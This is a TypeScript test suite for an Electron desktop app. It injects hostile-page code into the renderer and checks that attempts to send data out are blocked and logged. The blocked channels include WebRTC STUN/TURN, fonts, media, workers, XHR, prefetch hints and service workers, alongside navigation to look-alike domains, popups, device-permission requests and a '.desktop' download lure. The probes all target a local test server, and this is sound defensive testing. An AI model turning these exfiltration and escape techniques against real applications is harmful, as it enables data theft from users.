import { createSocket, type Socket } from 'node:dgram'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type DeskApp, launchDesk } from '../helpers/desk-app.ts'
import { waitUntil } from '../helpers/wait-until.ts'

// More that a page that was taken over could try, against the running desk: each attempt fails, and
// stands in the desk's own log wherever main can know of it.

let desk: DeskApp
let userData = ''
let server: Server
let datagrams: Socket
let reached = 0
let outside = ''
let udpPort = 0

beforeAll(async () => {
  server = createServer((request, response) => {
    reached += 1
    if (request.url === '/redirect') response.writeHead(302, { location: '/' }).end()
    else response.setHeader('access-control-allow-origin', '*').end('<p>reached</p>')
  })
  server.on('connection', () => {
    reached += 1
  })
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve)
  })
  outside = `127.0.0.1:${(server.address() as AddressInfo).port}`
  datagrams = createSocket('udp4')
  datagrams.on('message', () => {
    reached += 1
  })
  await new Promise<void>((resolve) => {
    datagrams.bind(0, '127.0.0.1', resolve)
  })
  udpPort = datagrams.address().port
  userData = mkdtempSync(path.join(os.tmpdir(), 'keydesk-hostile-'))
  desk = await launchDesk({ userData })
})

afterAll(async () => {
  await desk?.stop()
  server?.close()
  datagrams?.close()
  rmSync(userData, { recursive: true, force: true })
})

/** Runs code in the page's own world, as an injected script would. */
function inPage(code: string): Promise<unknown> {
  return desk.page.evaluate(
    (text) => new Function(`return (async () => { ${text} })()`)() as Promise<unknown>,
    code,
  )
}

async function stillAnswers(): Promise<boolean> {
  return desk.page.evaluate(async () => (await window.keydesk.requests['app.start']()).ok)
}

function timesLogged(text: string): number {
  return desk.readLogFile().split(text).length - 1
}

/** Does something and waits until the desk's log says so once more. */
async function expectLogged(text: string, attempt: () => Promise<unknown>): Promise<void> {
  const before = timesLogged(text)
  await attempt().catch(() => 'refused by Chromium itself')
  await waitUntil(`"${text}" in the log`, () => timesLogged(text) > before)
}

describe('carrying data out', () => {
  it.each([
    ['stun', () => `stun:127.0.0.1:${udpPort}`],
    ['turn over UDP', () => `turn:127.0.0.1:${udpPort}?transport=udp`],
    ['turn over TCP', () => `turn:${outside}?transport=tcp`],
  ])('is not possible by a call between browsers (%s)', async (_how, address) => {
    await inPage(`
      const servers = [{ urls: '${address()}', username: 'secret', credential: 'x' }]
      const peer = new RTCPeerConnection({ iceServers: servers })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
      await new Promise((resolve) => {
        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve()
        setTimeout(resolve, 3000)
      })
      peer.close()`)
    expect(reached).toBe(0)
  })

  it.each([
    ['a font', `new FontFace('x', 'url(http://OUTSIDE/)').load()`],
    [
      'a video',
      `document.body.append(Object.assign(document.createElement('video'), { src: 'http://OUTSIDE/', preload: 'auto' }))`,
    ],
    [
      'an object',
      `document.body.append(Object.assign(document.createElement('object'), { data: 'http://OUTSIDE/' }))`,
    ],
    [
      'an embedded page',
      `document.body.append(Object.assign(document.createElement('embed'), { src: 'http://OUTSIDE/' }))`,
    ],
    [
      'a style sheet',
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://OUTSIDE/' }))`,
    ],
    ['a worker', `new Worker('./index.html')`],
    ['a worker from a blob', `new Worker(URL.createObjectURL(new Blob(['1'])))`],
    ['a request', `const r = new XMLHttpRequest(); r.open('GET', 'http://OUTSIDE/'); r.send()`],
    [
      'a manifest',
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: 'http://OUTSIDE/' }))`,
    ],
    ['its own file as data', `fetch('./index.html')`],
  ])('is not possible by %s, and what its policy forbids stands in the log', async (_how, code) => {
    await expectLogged('Content Security Policy', () => inPage(code.replaceAll('OUTSIDE', outside)))
    expect(reached).toBe(0)
  })

  it.each([
    ['preconnect', ''],
    ['dns-prefetch', ''],
    ['prefetch', ''],
    ['preload', 'image'],
    ['modulepreload', 'script'],
    ['icon', ''],
  ])('is not possible by a link that is only a hint (%s)', async (rel, as) => {
    await inPage(`
      const link = Object.assign(document.createElement('link'), { rel: '${rel}', href: 'http://${outside}/' })
      if ('${as}' !== '') link.as = '${as}'
      document.head.append(link)
      await new Promise((resolve) => setTimeout(resolve, 200))
      link.remove()`)
    expect(reached).toBe(0)
  })

  it('is not possible by a service worker or by speculation', async () => {
    const outcome = await inPage(`
      const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' })
      rules.textContent = JSON.stringify({ prefetch: [{ urls: ['http://${outside}/'] }] })
      document.head.append(rules)
      await navigator.serviceWorker.register('./index.html').catch(() => 'refused')
      return (await navigator.serviceWorker.getRegistrations()).length`)
    expect(outcome).toBe(0)
    expect(reached).toBe(0)
  })
})

describe('leaving the page', () => {
  it.each([
    [
      'a link',
      (to: string) =>
        `const a = Object.assign(document.createElement('a'), { href: '${to}' }); document.body.append(a); a.click(); a.remove()`,
    ],
    [
      'a link that a drag would follow',
      (to: string) =>
        `const data = new DataTransfer(); data.setData('text/uri-list', '${to}'); document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true })); location.href = '${to}'`,
    ],
    ['a replaced address', (to: string) => `location.replace('${to}')`],
    ['an address that redirects', () => `location.assign('http://OUTSIDE/redirect')`],
    ['its top', (to: string) => `top.location = '${to}'`],
  ])('by %s is denied and logged', async (_how, code) => {
    const before = desk.page.url()
    await expectLogged('navigation denied', () =>
      inPage(code('http://OUTSIDE/').replaceAll('OUTSIDE', outside)),
    )
    await waitUntil('the page to answer', stillAnswers)
    expect(desk.page.url()).toBe(before)
    expect(reached).toBe(0)
  })

  it.each([
    'http://keydesk/',
    'https://keydesk.app.invalid.example.com/',
    'https://keydesk.app.invalid@example.com/',
    'https://xn--keydsk-bva.app.invalid/',
  ])('to the look-alike %s is denied and logged', async (address) => {
    await expectLogged('navigation denied', () => inPage(`location.assign('${address}')`))
    await waitUntil('the page to answer', stillAnswers)
  })

  it('by a file that is dropped onto it is not possible', async () => {
    const before = desk.page.url()
    const protocol = await desk.page.context().newCDPSession(desk.page)
    const data = { items: [], files: ['/etc/hostname'], dragOperationsMask: 1 }
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
      await protocol.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data })
    }
    await protocol.detach()
    await waitUntil('the page to answer', stillAnswers)
    expect(desk.page.url()).toBe(before)
    expect(await desk.page.locator('#root').count()).toBe(1)
  })

  it('by a frame inside it is denied', async () => {
    await expectLogged('Content Security Policy', () =>
      inPage(`
        const frame = document.createElement('iframe')
        frame.src = 'http://${outside}/redirect'
        document.body.append(frame)`),
    )
    expect(reached).toBe(0)
  })
})

describe('other windows', () => {
  it.each([
    ['a link for another window', `Object.assign(button, { target: '_blank' })`],
    ['a link that keeps its opener', `Object.assign(button, { target: 'x', rel: 'opener' })`],
    ['code that runs on a click', `button.onclick = () => !window.open(button.href, 'y', 'popup')`],
    [
      'a form for another window',
      `button.onclick = () => { open('about:blank', 'z'); return false }`,
    ],
  ])('do not stay open when a click opens one: %s', async (_how, code) => {
    await inPage(`
      const button = Object.assign(document.createElement('a'), { href: 'http://${outside}/', id: 'bait' })
      button.textContent = 'click'
      button.style = 'position:fixed;inset:0 auto auto 0;width:99px;height:99px;z-index:9999'
      ${code}
      document.body.append(button)`)
    // Electron is asked for the window; under the stand-in the window's own request is what is denied.
    await expectLogged(' denied"', () => desk.page.mouse.click(50, 50))
    await waitUntil('other windows to be gone', () => desk.page.context().pages().length === 1)
    await inPage(`document.getElementById('bait').remove()`)
    expect(await inPage('return window.opener')).toBeNull()
    expect(reached).toBe(0)
  })

  it('cannot be reached over a channel of the origin either', async () => {
    // Nobody else is on the origin: a message to it comes back from nowhere.
    const heard = await inPage(`
      const one = new BroadcastChannel('x')
      const answer = new Promise((resolve) => {
        one.onmessage = () => resolve('heard')
        setTimeout(() => resolve('nothing'), 100)
      })
      one.postMessage('anybody?')
      return answer`)
    expect(heard).toBe('nothing')
  })
})

describe('what a page may ask of the machine', () => {
  it.each([
    ['its place', `new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))`],
    ['a camera', `navigator.mediaDevices.getUserMedia({ video: true })`],
    ['the screen', `navigator.mediaDevices.getDisplayMedia({ video: true })`],
    [
      'a message of the system',
      `Notification.requestPermission().then((got) => got === 'granted' || Promise.reject(got))`,
    ],
    ['the clipboard', `navigator.clipboard.readText()`],
    ['a USB device', `navigator.usb.requestDevice({ filters: [] })`],
    ['a serial port', `navigator.serial.requestPort()`],
    [
      'a HID device',
      `navigator.hid.requestDevice({ filters: [] }).then((got) => got.length > 0 || Promise.reject('none'))`,
    ],
    ['a file', `showOpenFilePicker()`],
    ['instruments', `navigator.requestMIDIAccess({ sysex: true })`],
    [
      'whether somebody is there',
      `IdleDetector.requestPermission().then((got) => got === 'granted' || Promise.reject(got))`,
    ],
    ['fonts', `queryLocalFonts().then((got) => got.length > 0 || Promise.reject('none'))`],
  ])('%s is refused', async (_what, code) => {
    const outcome = await inPage(`
      try {
        const asked = Promise.resolve(${code}).then(() => 'granted', () => 'refused')
        const patience = new Promise((resolve) => setTimeout(() => resolve('no answer'), 2000))
        return await Promise.race([asked, patience])
      } catch { return 'refused' }`)
    expect(outcome).not.toBe('granted')
  })

  it('a file cannot be left in the downloads', async () => {
    await expectLogged('download denied', () =>
      inPage(`
        const link = document.createElement('a')
        link.href = URL.createObjectURL(new Blob(['x']))
        link.download = 'invoice.desktop'
        document.body.append(link)
        link.click()
        link.remove()`),
    )
  })
})

it('after all of this the desk is as it was', async () => {
  expect(await stillAnswers()).toBe(true)
  expect(desk.page.context().pages().length).toBe(1)
  expect(timesLogged('"uncaught"') + timesLogged('"unhandled"')).toBe(0)
  expect(reached).toBe(0)
})
